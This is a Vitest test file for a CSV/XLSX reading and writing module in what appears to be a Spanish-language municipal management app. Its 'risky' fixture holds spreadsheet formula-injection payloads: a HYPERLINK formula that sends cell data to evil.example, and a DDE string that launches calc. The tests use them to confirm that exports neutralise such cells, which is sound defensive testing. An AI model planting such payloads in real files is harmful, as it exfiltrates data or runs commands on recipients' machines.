import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { DomainError } from '../../src/domain/errors.ts';
import { ImportError, readTable, requireColumns, writeTable } from '../../src/domain/tabular.ts';

const dir = mkdtempSync(join(tmpdir(), 'mipg-tabular-'));
let counter = 0;

function file(extension: string, content: string | Uint8Array): string {
  counter += 1;
  const path = join(dir, `archivo-${counter}${extension}`);
  writeFileSync(path, content);
  return path;
}

describe('readTable (CSV)', () => {
  it('reads a semicolon CSV with BOM, normalizing headers and counting lines from the header', async () => {
    const path = file(
      '.csv',
      '\uFEFFCódigo;Nombre;Tipo\nDE;Direccionamiento Estratégico;estratégico\n\n;;\nGTH;"Talento\nHumano";apoyo\n',
    );
    const table = await readTable(path);
    expect(table.headers).toEqual(['codigo', 'nombre', 'tipo']);
    expect(table.rows).toEqual([
      { line: 2, values: { codigo: 'DE', nombre: 'Direccionamiento Estratégico', tipo: 'estratégico' } },
      { line: 5, values: { codigo: 'GTH', nombre: 'Talento\nHumano', tipo: 'apoyo' } },
    ]);
  });

  it('reads a comma CSV and fills missing cells with empty text', async () => {
    const path = file('.csv', 'nombre,correo,rol\n"Pérez, Ana",ana@pasto.gov.co\n');
    const table = await readTable(path);
    expect(table.rows).toEqual([
      { line: 2, values: { nombre: 'Pérez, Ana', correo: 'ana@pasto.gov.co', rol: '' } },
    ]);
  });

  it('finds a header below a preamble when told its columns', async () => {
    const path = file('.csv', 'Sesión;Comité 1\nFecha;2026-03-02\nNombre;Correo\nAna;ana@pasto.gov.co\n');
    const table = await readTable(path, { headerWith: ['correo'] });
    expect(table.preamble).toEqual([
      ['Sesión', 'Comité 1'],
      ['Fecha', '2026-03-02'],
    ]);
    expect(table.rows).toEqual([{ line: 4, values: { nombre: 'Ana', correo: 'ana@pasto.gov.co' } }]);
  });

  it('reads a CSV that Excel saved in Latin-1 with its accents intact', async () => {
    const path = file('.csv', Buffer.from('Código;Descripción\nGTH;Gestión del Talento Humano\n', 'latin1'));
    const table = await readTable(path);
    expect(table.rows[0]?.values).toEqual({ codigo: 'GTH', descripcion: 'Gestión del Talento Humano' });
  });

  it('reads a Windows-1252 CSV with its curly quotes, dashes and euro sign', async () => {
    const bytes = Buffer.concat([
      Buffer.from('Nombre;Nota\nAndrés;', 'latin1'),
      Buffer.from([0x93, 0x41, 0x94, 0x20, 0x96, 0x20, 0x80, 0x0a]),
    ]);
    const table = await readTable(file('.csv', bytes));
    expect(table.rows[0]?.values).toEqual({ nombre: 'Andrés', nota: '“A” – €' });
  });

  it('refuses a UTF-8 CSV with one byte in another encoding, naming its line, instead of garbling it', async () => {
    const bytes = Buffer.concat([
      Buffer.from('nombre,correo,rol,equipos\nAndrés Muñoz,andres@pasto.gov.co,integrante,Equipo MIPG\n'),
      Buffer.from('Luis G', 'utf8'),
      Buffer.from([0xf3]),
      Buffer.from('mez,luis@pasto.gov.co,integrante,Líderes de proceso\n'),
    ]);
    const error = await readTable(file('.csv', bytes)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(DomainError);
    expect((error as DomainError).message).toMatch(
      /^El archivo «archivo-\d+\.csv» mezcla codificaciones y no se importó nada: está en UTF-8, pero la línea 3 tiene un carácter en otra codificación \(byte 0xF3\)\.$/,
    );
    expect((error as DomainError).help[0]).toContain('«CSV UTF-8 (delimitado por comas)»');
  });

  it('refuses a file that is neither UTF-8 nor clean Windows-1252, naming the line', async () => {
    const undefinedByte = Buffer.concat([
      Buffer.from('a;b\nGesti', 'latin1'),
      Buffer.from([0xf3, 0x6e, 0x0a, 0x81]),
    ]);
    const first = await readTable(file('.csv', undefinedByte)).catch((e: unknown) => e);
    expect((first as DomainError).message).toMatch(
      /no está en UTF-8 ni en Windows-1252 y no se importó nada: la línea 3 tiene el byte 0x81, que no es un carácter ni en UTF-8 ni en Windows-1252\.$/,
    );
    const control = Buffer.concat([Buffer.from('a;b\r\nx;y\r\nGesti', 'latin1'), Buffer.from([0xf3, 0x00])]);
    const second = await readTable(file('.csv', control)).catch((e: unknown) => e);
    expect((second as DomainError).message).toMatch(
      /la línea 3 tiene un carácter de control \(byte 0x00\) que no es texto\.$/,
    );
    const utf16 = Buffer.from('\uFEFFa;b\n', 'utf16le');
    const third = await readTable(file('.csv', utf16)).catch((e: unknown) => e);
    expect((third as DomainError).message).toMatch(/está en UTF-16 .* y no se importó nada\.$/);
  });

  it('drops control characters (ANSI escapes, bidi overrides) from every cell, CSV and XLSX', async () => {
    const dirty = 'Ana \u001b[31mPérez\u001b[0m\u202e\u0007';
    const csv = await readTable(file('.csv', `nombre;nota\n${dirty};"dos\r\nlíneas"\n`));
    expect(csv.rows[0]?.values).toEqual({ nombre: 'Ana [31mPérez[0m', nota: 'dos\nlíneas' });
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Datos');
    sheet.addRow(['nombre']);
    sheet.addRow([dirty]);
    const xlsx = await readTable(file('.xlsx', new Uint8Array(await workbook.xlsx.writeBuffer())));
    expect(xlsx.rows[0]?.values).toEqual({ nombre: 'Ana [31mPérez[0m' });
  });

  it('refuses a cell longer than any text the office writes, by line and column', async () => {
    const path = file('.csv', `nombre;nota\nAna;corta\nLuis;${'x'.repeat(1_048_576)}\n`);
    const error = await readTable(path).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ImportError);
    expect((error as ImportError).message.split('\n')).toEqual([
      'El archivo tiene 1 problema; no se importó nada:',
      '• Línea 3, columna nota: la celda admite hasta 2.000 caracteres (tiene 1.048.576).',
    ]);
  });

  it('refuses other extensions in Spanish', async () => {
    const path = file('.pdf', 'x');
    await expect(readTable(path)).rejects.toThrow(DomainError);
    await expect(readTable(path)).rejects.toThrow(/debe ser \.csv o \.xlsx/);
  });

  it('explains a missing file', async () => {
    await expect(readTable(join(dir, 'no-existe.csv'))).rejects.toThrow(/No se pudo abrir el archivo/);
  });
});

describe('readTable (XLSX)', () => {
  it('reads the first sheet: dates, numbers, rich text and links as text; skips empty rows', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Datos');
    workbook.addWorksheet('Otra').addRow(['no', 'se', 'lee']);
    sheet.addRow(['Fecha', 'Valor', 'Nota', 'Enlace']);
    sheet.addRow([
      new Date(Date.UTC(2026, 2, 31)),
      12.5,
      { richText: [{ text: 'Acta ' }, { text: 'firmada', font: { bold: true } }] },
      { text: 'Carpeta', hyperlink: 'https://intranet.pasto.gov.co/a' },
    ]);
    sheet.addRow([]);
    sheet.addRow([null, 3, '  texto  ', null]);
    const path = file('.xlsx', new Uint8Array(await workbook.xlsx.writeBuffer()));
    const table = await readTable(path);
    expect(table.headers).toEqual(['fecha', 'valor', 'nota', 'enlace']);
    expect(table.rows).toEqual([
      { line: 2, values: { fecha: '2026-03-31', valor: '12.5', nota: 'Acta firmada', enlace: 'Carpeta' } },
      { line: 4, values: { fecha: '', valor: '3', nota: 'texto', enlace: '' } },
    ]);
  });
});

describe('requireColumns and ImportError', () => {
  it('names every missing column', async () => {
    const table = await readTable(file('.csv', 'nombre;correo\nAna;a@b.co\n'));
    expect(() => requireColumns(table, ['Nombre', 'Correo'])).not.toThrow();
    const error = (() => {
      try {
        requireColumns(table, ['nombre', 'correo', 'rol', 'proceso']);
      } catch (e) {
        return e;
      }
    })();
    expect(error).toBeInstanceOf(ImportError);
    expect((error as ImportError).message).toContain('Línea 1: faltan las columnas rol, proceso.');
  });

  it('lists each problem by line and column and caps the list', () => {
    const problems = Array.from({ length: 20 }, (_, i) => ({
      line: i + 2,
      column: 'correo',
      message: 'vacío.',
    }));
    const error = new ImportError(problems);
    expect(error).toBeInstanceOf(DomainError);
    expect(error.message).toMatch(/^El archivo tiene 20 problemas; no se importó nada:/);
    expect(error.message).toContain('Línea 2, columna correo: vacío.');
    expect(error.message).toContain('Línea 16, columna correo: vacío.');
    expect(error.message).not.toContain('Línea 17,');
    expect(error.message).toContain('… y 5 más.');
  });
});

describe('writeTable', () => {
  const sheet = {
    name: 'Asistencia: comité',
    columns: [
      { key: 'name', header: 'Nombre', width: 30 },
      { key: 'count', header: 'Asistencias' },
    ],
    rows: [
      { name: 'Ana; "la jefa"', count: 3 },
      { name: 'Luis', count: null },
    ],
  };

  it('writes CSV with its header row and reads back the same', async () => {
    const csv = await writeTable('csv', sheet);
    expect(csv).toBe('Nombre,Asistencias\n"Ana; ""la jefa""",3\nLuis,\n');
    const table = await readTable(file('.csv', csv));
    expect(table.rows.map((r) => r.values)).toEqual([
      { nombre: 'Ana; "la jefa"', asistencias: '3' },
      { nombre: 'Luis', asistencias: '' },
    ]);
  });

  it('writes XLSX with a preamble, a bold frozen header and column widths', async () => {
    const bytes = await writeTable('xlsx', { ...sheet, preamble: [['Sesión', 'Comité 1']] });
    expect(bytes).toBeInstanceOf(Uint8Array);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes as Uint8Array) as unknown as ArrayBuffer);
    const ws = workbook.worksheets[0];
    expect(ws?.name).toBe('Asistencia  comité');
    expect(ws?.getRow(2).getCell(1).value).toBe('Nombre');
    expect(ws?.getRow(2).getCell(2).font?.bold).toBe(true);
    expect(ws?.getRow(3).getCell(1).font?.bold).toBeFalsy();
    expect(ws?.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    expect(ws?.getColumn(1).width).toBe(30);
    const table = await readTable(file('.xlsx', bytes as Uint8Array), { headerWith: ['nombre'] });
    expect(table.preamble).toEqual([['Sesión', 'Comité 1']]);
    expect(table.rows).toEqual([
      { line: 3, values: { nombre: 'Ana; "la jefa"', asistencias: '3' } },
      { line: 4, values: { nombre: 'Luis', asistencias: '' } },
    ]);
  });

  const risky = {
    name: 'Reportes',
    columns: [
      { key: 'text', header: 'Texto' },
      { key: 'amount', header: 'Cantidad' },
    ],
    preamble: [['Sesión', '=HYPERLINK("http://evil.example/?x="&A1,"clic")']],
    rows: [
      { text: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', amount: -5 },
      { text: "+cmd|' /C calc'!A0", amount: 0 },
      { text: '-2+3', amount: 12.5 },
      { text: '@SUM(A1:A2)', amount: null },
      { text: '\tTab', amount: null },
      { text: '\rRetorno', amount: null },
      { text: "'=ya protegida", amount: null },
      { text: 'Texto normal - con guion', amount: null },
    ],
  };

  it('neutralises CSV text cells a spreadsheet would run as formulas; numbers stay numbers', async () => {
    const csv = (await writeTable('csv', risky)) as string;
    expect(csv.split('\n')).toEqual([
      `Sesión,"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")"`,
      'Texto,Cantidad',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")",-5`,
      `'+cmd|' /C calc'!A0,0`,
      `'-2+3,12.5`,
      `'@SUM(A1:A2),`,
      `'\tTab,`,
      `"'\rRetorno",`,
      `''=ya protegida,`,
      'Texto normal - con guion,',
      '',
    ]);
  });

  it('reads a neutralised CSV back to the very texts that were written', async () => {
    const csv = (await writeTable('csv', risky)) as string;
    const table = await readTable(file('.csv', csv), { headerWith: ['texto'] });
    expect(table.preamble).toEqual([['Sesión', '=HYPERLINK("http://evil.example/?x="&A1,"clic")']]);
    expect(table.rows.map((r) => r.values)).toEqual([
      { texto: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', cantidad: '-5' },
      { texto: "+cmd|' /C calc'!A0", cantidad: '0' },
      { texto: '-2+3', cantidad: '12.5' },
      { texto: '@SUM(A1:A2)', cantidad: '' },
      { texto: '\tTab', cantidad: '' },
      // A carriage return is read as a newline, as every line end is.
      { texto: '\nRetorno', cantidad: '' },
      { texto: "'=ya protegida", cantidad: '' },
      { texto: 'Texto normal - con guion', cantidad: '' },
    ]);
  });

  it('writes XLSX text cells as typed strings, never formulas, and numbers as numbers', async () => {
    const bytes = (await writeTable('xlsx', risky)) as Uint8Array;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    const ws = workbook.worksheets[0];
    const formula = ws?.getRow(3).getCell(1);
    expect(formula?.type).toBe(ExcelJS.ValueType.String);
    expect(formula?.value).toBe('=HYPERLINK("http://evil.example/?x="&A1,"clic")');
    expect(ws?.getRow(3).getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(ws?.getRow(3).getCell(2).value).toBe(-5);
    expect(ws?.getRow(4).getCell(1).value).toBe("+cmd|' /C calc'!A0");
  });
});
